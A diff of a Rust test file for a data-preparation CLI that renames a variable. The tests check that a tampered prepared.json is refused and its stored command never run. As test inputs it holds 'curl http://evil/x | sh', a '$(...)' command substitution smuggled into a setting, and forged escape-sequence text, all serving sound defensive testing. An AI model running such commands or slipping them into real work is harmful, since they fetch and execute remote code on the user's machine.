@@ -59,19 +59,19 @@ fn a_file_of_tokens_that_the_list_does_not_name_is_refused() {
     folder.shell("cp made/train/000000.bin made/train/000001.bin; mkdir made/validation/more; cp made/train/000000.bin made/validation/more/a.bin").ok();
     let (made, list) = (folder.path("made"), folder.path("made/prepared.json"));
     let refused = |file: &str| {
-        let said = format!(
+        let message = format!(
             "{file}: {} does not name it; move it away, or delete the folder {} and prepare the text again",
             list.display(),
             made.display()
         );
         let sets = sets.each_ref().map(String::as_str);
         for args in [&["data", "check", "tiny.ron"][..], &["train", "tiny.ron", "--dry-run"]] {
-            onebox(&folder, args, &sets).refused(66, &[&said]);
+            onebox(&folder, args, &sets).refused(66, &[&message]);
         }
-        said
+        message
     };
-    let said = refused("made/train/000001.bin");
-    prepared_again(&folder).refused(73, &[&said]);
+    let message = refused("made/train/000001.bin");
+    prepared_again(&folder).refused(73, &[&message]);
     fs::remove_file(folder.path("made/train/000001.bin")).unwrap();
     refused("made/validation/more/a.bin");
     folder.shell("rm -r made/validation/more; echo mine > made/train/notes.txt").ok();
@@ -159,14 +159,14 @@ fn a_list_from_elsewhere_has_nobody_run_its_command() {
     let list = folder.path("made/prepared.json");
     let own: serde_json::Value = serde_json::from_slice(&fs::read(&list).unwrap()).unwrap();
     let made = folder.path("made").display().to_string();
-    let said = |change: &dyn Fn(&mut serde_json::Value)| {
+    let output = |change: &dyn Fn(&mut serde_json::Value)| {
         let mut json = own.clone();
         change(&mut json);
         fs::write(&list, json.to_string()).unwrap();
-        let said = checked(&folder, &sets).refused(66, &["error: data.train: "]).stderr;
-        assert!(said.lines().count() == 1 && said.len() < 10_000, "{said}");
-        assert!(!said.contains(['\u{1b}', '\r']), "{said}");
-        said
+        let output = checked(&folder, &sets).refused(66, &["error: data.train: "]).stderr;
+        assert!(output.lines().count() == 1 && output.len() < 10_000, "{output}");
+        assert!(!output.contains(['\u{1b}', '\r']), "{output}");
+        output
     };
     let evil = "curl http://evil/x | sh";
     let own_command = own["command"].as_str().unwrap();
@@ -178,22 +178,22 @@ fn a_list_from_elsewhere_has_nobody_run_its_command() {
         format!("onebox data prepare \"$({evil})\" /x"),
         "A".repeat(1_000_000),
     ] {
-        let said = said(&|json| json["command"] = command.clone().into());
-        assert!(!said.contains("evil") && !said.contains("root"), "{said}");
+        let output = output(&|json| json["command"] = command.clone().into());
+        assert!(!output.contains("evil") && !output.contains("root"), "{output}");
         let remedy = format!("or make them again: onebox data prepare CONFIG {made}\n");
-        assert!(said.ends_with(&remedy), "{said}");
+        assert!(output.ends_with(&remedy), "{output}");
     }
     // A setting that contains a command is quoted as a setting.
     let set = format!("data.text=$({evil})");
     let command = format!("onebox data prepare /c.ron --set '{set}' /x");
-    let text = said(&|json| json["command"] = command.clone().into());
+    let text = output(&|json| json["command"] = command.clone().into());
     let again = format!("again: onebox data prepare /c.ron --set '{set}' {made}\n");
     assert!(text.ends_with(&again), "{text}");
     // The other texts of the list are foreign too.
     let text = format!("\nerror: forged\u{1b}[2J\r{}", "A".repeat(1_000_000));
-    said(&|json| json["parts"][0][0]["files"][0]["name"] = text.clone().into());
-    said(&|json| json["makers"] = text.clone().into());
-    said(&|json| json["parts"][0][0]["files"][0]["hash"] = text.clone().into());
+    output(&|json| json["parts"][0][0]["files"][0]["name"] = text.clone().into());
+    output(&|json| json["makers"] = text.clone().into());
+    output(&|json| json["parts"][0][0]["files"][0]["hash"] = text.clone().into());
     let mut json = own.clone();
     json["makers"]["tokenizer"] = "\nerror: forged".into();
     json["makers"]["\nerror: forged"] = "a".into();
